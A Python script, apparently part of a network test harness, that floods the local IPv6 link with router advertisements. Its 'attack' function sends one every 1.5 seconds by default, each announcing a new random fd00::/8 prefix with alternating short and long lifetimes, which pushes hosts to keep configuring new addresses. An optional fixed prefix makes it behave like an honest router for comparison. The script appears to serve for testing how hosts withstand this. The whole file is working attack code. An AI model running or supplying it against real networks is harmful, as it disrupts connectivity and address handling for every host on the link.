"""Sends router advertisements with a fresh prefix each time; lifetimes are 20 s and an hour in turn.

    router.py --seconds N [--prefix P]

With `--prefix` the prefix stays the same, and its lifetime is renewed: what an honest router does.
"""

import argparse
import secrets
import socket
import struct
import time

import wire

ALL_NODES = "ff02::1"


def advertisement(prefix, valid, preferred):
    """An RA of a router that routes nothing, with one on-link prefix for addresses."""
    option = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, valid, preferred, 0) + prefix
    return struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 0, 0, 0) + option


def attack(arguments):
    def perform(figures):
        raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        raw.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        raw.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex(wire.INTERFACE))
        fixed = arguments.prefix and socket.inet_pton(socket.AF_INET6, arguments.prefix)
        sent = 0
        wire.ready()
        try:
            while True:
                prefix = fixed or b"\xfd" + secrets.token_bytes(7) + bytes(8)
                long = fixed or sent % 2
                raw.sendto(advertisement(prefix, 3600 if long else 20, 1800 if long else 10), (ALL_NODES, 0))
                sent += 1
                time.sleep(arguments.seconds)
        finally:
            figures.update(advertisements=sent)
    return perform


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--seconds", type=float, default=1.5)
    parser.add_argument("--prefix")
    wire.perform(attack(parser.parse_args()))
